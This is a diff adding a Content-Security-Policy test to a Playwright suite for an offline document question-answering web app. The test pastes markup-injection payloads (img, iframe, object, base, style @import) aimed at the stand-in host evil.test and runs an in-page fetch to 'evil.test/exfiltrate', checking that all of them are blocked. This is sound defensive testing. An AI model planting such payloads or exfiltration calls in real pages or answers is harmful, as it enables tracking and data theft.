@@ -67,6 +67,8 @@ async function ask(page: Page, question: string): Promise<void> {
   expect(`${await view.getAttribute('data-status')}: ${await view.innerText()}`).toMatch(/^done: /);
 }
 
+const cspViolations = (page: Page) => page.evaluate(() => (window as unknown as { __csp?: string[] }).__csp ?? []);
+
 const shot = (page: Page, name: string) => page.screenshot({ path: join(OUTPUT_DIR, `offline-${name}.png`), fullPage: true });
 
 describe('offline after one visit', () => {
@@ -110,8 +112,60 @@ describe('offline after one visit', () => {
     await shot(page, 'offline-answer');
     expect(errors).toEqual([]);
 
+    expect(await cspViolations(page)).toEqual([]);
     const timing = { firstVisitMs: firstVisit, onlineReloadMs: onlineReload, offlineReloadMs: offlineReload, offlineVsOnline: +(offlineReload / onlineReload).toFixed(2) };
     writeFileSync(join(OUTPUT_DIR, 'offline-timing.json'), JSON.stringify(timing, null, 2));
     console.log('time to a usable page:', timing);
+  });
+});
+
+describe('Content-Security-Policy', () => {
+  it('runs the whole answer path under the policy, and a hostile document or answer cannot make the page fetch elsewhere', async () => {
+    const { context, page, errors } = await newPage();
+    const elsewhere: string[] = [];
+    context.on('request', (r) => {
+      const host = new URL(r.url()).hostname;
+      if (host !== '127.0.0.1' && !r.url().startsWith('blob:') && !r.url().startsWith('data:')) elsewhere.push(r.url());
+    });
+    await page.goto(served.url + QUERY);
+    await page.getByTestId('doc').first().waitFor({ timeout: 120_000 });
+    const policy = await page.locator('meta[http-equiv=Content-Security-Policy]').getAttribute('content');
+    expect(policy).toMatch(/script-src 'self' 'wasm-unsafe-eval'/);
+    expect(policy).toMatch(/object-src 'none'/);
+    expect(policy).toMatch(/base-uri 'self'/);
+
+    // A document full of things that would load from elsewhere if they were ever treated as markup.
+    const hostile =
+      'The harbour pilot of genoa steers every tanker at dawn. <img src="https://evil.test/pixel.png"> ' +
+      '![tracker](https://evil.test/md.png) <link rel="stylesheet" href="https://evil.test/x.css"> ' +
+      '<iframe src="https://evil.test/frame"></iframe> <object data="https://evil.test/o.swf"></object> ' +
+      '<base href="https://evil.test/"> <style>@import url(https://evil.test/s.css)</style> The pilot of genoa is careful.';
+    await page.locator('details.paste summary').click();
+    await page.getByTestId('paste-title').fill('Harbour pilot <img src="https://evil.test/title.png">');
+    await page.getByTestId('paste-text').fill(hostile);
+    await page.getByTestId('paste-add').click();
+    await expect.poll(() => page.getByTestId('doc').count(), { timeout: 60_000 }).toBe(6);
+    // The scripted model copies passage text into its answer, so model output carries the markup too.
+    await ask(page, 'Who steers every tanker at dawn in genoa?');
+    const segment = page.getByTestId('segment').first();
+    await segment.getByTestId('citation').click();
+    expect(await page.getByTestId('passage-text').innerText()).toContain('https://evil.test/pixel.png');
+    await page.keyboard.press('Escape');
+    expect(await page.locator('#root :is(img, iframe, object, link, style, base)').count()).toBe(0);
+
+    // The policy is in force: the page itself cannot reach another host.
+    const blocked = await page.evaluate(async () => {
+      const out: string[] = [];
+      await fetch('https://evil.test/exfiltrate').then(
+        () => out.push('fetch went through'),
+        () => out.push('fetch refused'),
+      );
+      return out;
+    });
+    expect(blocked).toEqual(['fetch refused']);
+    await expect.poll(() => cspViolations(page)).toContainEqual(expect.stringMatching(/^connect-src https:\/\/evil\.test/));
+    expect((await cspViolations(page)).filter((v) => !v.includes('evil.test/exfiltrate'))).toEqual([]);
+    expect(elsewhere).toEqual([]);
+    expect(errors).toEqual([]);
   });
 });
